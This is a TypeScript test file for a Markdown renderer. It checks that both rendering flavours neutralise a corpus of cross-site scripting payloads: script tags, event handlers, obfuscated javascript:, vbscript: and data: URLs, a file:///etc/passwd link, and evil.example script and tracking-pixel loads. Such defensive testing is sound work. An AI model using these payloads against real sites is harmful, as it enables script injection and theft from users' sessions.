/**
 * The one Markdown renderer (server/lib/markdown.ts): one corpus of attacks against both flavours, what stays as
 * text, what is allowed, and the plain-line shortcut held to the full renderer.
 */
import { describe, expect, it } from 'vitest';
import { isPlainLine, type MarkdownFlavour, renderFully, renderMarkdown } from './markdown.ts';

// A small deterministic generator, so that a failure names its input and repeats.
function* lines(count: number, alphabet: string[]): Generator<string> {
  let state = 20261127;
  const next = () => {
    state = (state * 1103515245 + 12345) % 2 ** 31;
    return state;
  };
  for (let index = 0; index < count; index += 1) {
    const length = 1 + (next() % 24);
    yield Array.from({ length }, () => alphabet[next() % alphabet.length]).join('');
  }
}

describe('a message', () => {
  it('renders markdown and keeps only safe markup', () => {
    expect(renderMarkdown('**bold** and [a link](https://example.com)')).toBe(
      '<p><strong>bold</strong> and <a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">a link</a></p>',
    );
    expect(renderMarkdown('[x](javascript:alert(1)) <script>alert(1)</script>')).toBe(
      '<p>[x](javascript:alert(1)) &lt;script&gt;alert(1)&lt;/script&gt;</p>',
    );
    expect(renderMarkdown('   ')).toBe('');
  });

  it('answers a plain line exactly as the full renderer does', () => {
    const samples = [
      'Hi, how are you? I\'d like "that" (maybe).',
      't=1234.567',
      'Ça va? Très bien, merci',
      'مرحبا، كيف حالك؟',
      'नमस्ते, आप कैसे हैं?',
      'see example.com',
      '1. first',
      '2) second',
      'a - b + c = 100%',
      'mail me: someone@example.com',
      'ends with spaces  ',
      'ok: fine. yes!',
      'a *b* c',
      'a _b_ c',
      'a `b` c',
      'a ~~b~~ c',
      'x <b>y</b>',
      'fish & chips',
      'see @alice',
      'one\ntwo',
      '# heading',
      '> quote',
      '- item',
      '+ item',
      'a [b](https://example.com)',
      'a \\*b',
      'go to http://example.org now',
      '    code',
    ];
    for (const sample of samples) expect(renderMarkdown(sample), sample).toBe(renderFully(sample));
  });

  it('never differs from the full renderer on generated one-line messages', () => {
    // What a plain line may hold (the tricky ones: `.`, `:`, digits, leading and trailing spaces), then with a few
    // characters that markdown reads.
    const allowed = [...'aZé9 ,;?!\'"()=%+-.:', 'ّ', 'ü', '1', 'x', ' ', 'b', 'c'];
    const mixed = [...allowed, '_', '*', '#', '>', '`', '[', '@', '&', '<', '\n'];
    let plain = 0;
    for (const line of [...lines(3000, allowed), ...lines(3000, mixed)]) {
      if (isPlainLine(line)) plain += 1;
      expect(renderMarkdown(line), JSON.stringify(line)).toBe(renderFully(line));
    }
    expect(plain).toBeGreaterThan(1000);
  });
});

const ATTACHMENT = '/api/attachments/0b7c8a52-6d5e-4f0a-9a57-3f2c1d9e8b41';

/** Attacks a text may carry: raw tags, event handlers, script URLs (spelled every way), data URLs, nested tricks. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<div onclick="alert(1)">click</div>',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example"><input name="p"></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java%0ascript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/phish)',
  '[x](https://ok.example "t\\" onmouseover=\\"alert(1))',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<vbscript:msgbox(1)>',
  '![pixel](https://evil.example/track.png)',
  '![pixel](//evil.example/track.png)',
  '![pixel](data:image/png;base64,iVBORw0KGgo=)',
  '![pixel](javascript:alert(1))',
  '![pixel](/api/attachments/../../api/users/me)',
  '![pixel](/api/attachments/0b7c8a52-6d5e-4f0a-9a57-3f2c1d9e8b41" onerror="alert(1))',
  '[<img src=x onerror=alert(1)>](https://ok.example)',
  '[![x](https://evil.example/x.png)](javascript:alert(1))',
  '<<script>script>alert(1)<</script>/script>',
  '*[x](javascript:alert(1))*',
  '> [x](data:text/html,<script>alert(1)</script>)',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\ncode\n```',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[x](javascript:alert(1)//https://ok.example)',
  '[x](\u0001javascript:alert(1))',
  'www.evil.example/<script>alert(1)</script>',
  'mailto:<script>alert(1)</script>@example.com',
];

const ATTRIBUTE = /([\w-]+)="([^"]*)"/g;
const FLAVOURS: MarkdownFlavour[] = ['message', 'listing'];

/** Every tag of the output, with its attributes, so the checks read markup rather than text. */
function tagsOf(html: string): Array<{ name: string; attributes: Record<string, string>; raw: string }> {
  return [...html.matchAll(/<([a-zA-Z][\w-]*)([^>]*)>/g)].map((match) => ({
    name: match[1]!.toLowerCase(),
    attributes: Object.fromEntries([...match[2]!.matchAll(ATTRIBUTE)].map((attribute) => [attribute[1]!.toLowerCase(), attribute[2]!])),
    raw: match[0],
  }));
}

const ALLOWED_TAGS = new Set(
  'p br strong em s code pre blockquote ul ol li a img hr h1 h2 h3 h4 h5 h6 table thead tbody tr th td'.split(' '),
);

describe('the attack corpus', () => {
  it.each(FLAVOURS)('renders every attack inert as a %s', (flavour) => {
    for (const attack of ATTACKS) {
      const html = renderMarkdown(attack, flavour);
      for (const tag of tagsOf(html)) {
        expect(ALLOWED_TAGS.has(tag.name), `${JSON.stringify(attack)} -> ${tag.raw}`).toBe(true);
        expect(
          Object.keys(tag.attributes).filter((name) => name.startsWith('on')),
          `${JSON.stringify(attack)} -> ${tag.raw}`,
        ).toEqual([]);
        if (tag.name === 'a')
          expect(tag.attributes.href, `${JSON.stringify(attack)} -> ${tag.raw}`).toMatch(/^(https?:\/\/|mailto:|\/(?!\/)|#)/);
        if (tag.name === 'img') expect(tag.attributes.src, `${JSON.stringify(attack)} -> ${tag.raw}`).toBe(ATTACHMENT);
        for (const value of Object.values(tag.attributes))
          expect(value, `${JSON.stringify(attack)} -> ${tag.raw}`).not.toMatch(/script:|data:/i);
      }
      expect(html, JSON.stringify(attack)).not.toMatch(/<\/?(script|iframe|svg|style|object|embed|form|input|div)\b/i);
    }
  });

  it('keeps what was written, as text', () => {
    expect(renderMarkdown('<script>alert(1)</script>')).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>');
    expect(renderMarkdown('<img src=x onerror=alert(1)>', 'listing')).toBe('<p>&lt;img src=x onerror=alert(1)&gt;</p>');
    expect(renderMarkdown('[x](javascript:alert(1))', 'listing')).toBe('<p>[x](javascript:alert(1))</p>');
    expect(renderMarkdown('![a tracking pixel](https://evil.example/track.png)')).toBe('<p>a tracking pixel</p>');
  });

  it('shows our own attachments as images, and links to http(s), mailto and this site', () => {
    expect(renderMarkdown(`![the plan](${ATTACHMENT})`)).toBe(`<p><img src="${ATTACHMENT}" alt="the plan" loading="lazy" /></p>`);
    expect(renderMarkdown('[mail](mailto:help@example.com) [page](/experts/resume-tailor)', 'listing')).toBe(
      '<p><a href="mailto:help@example.com" rel="nofollow noopener noreferrer">mail</a> <a href="/experts/resume-tailor" rel="nofollow noopener noreferrer">page</a></p>',
    );
  });
});

describe('a listing', () => {
  it('keeps paragraphs as written and demotes headings below the page’s own', () => {
    expect(renderMarkdown('# Plan\nline one\nline two\n\n## Steps', 'listing')).toBe(
      '<h3>Plan</h3>\n<p>line one\nline two</p>\n<h4>Steps</h4>',
    );
    expect(renderMarkdown('see https://example.com', 'listing')).toBe('<p>see https://example.com</p>');
  });
});
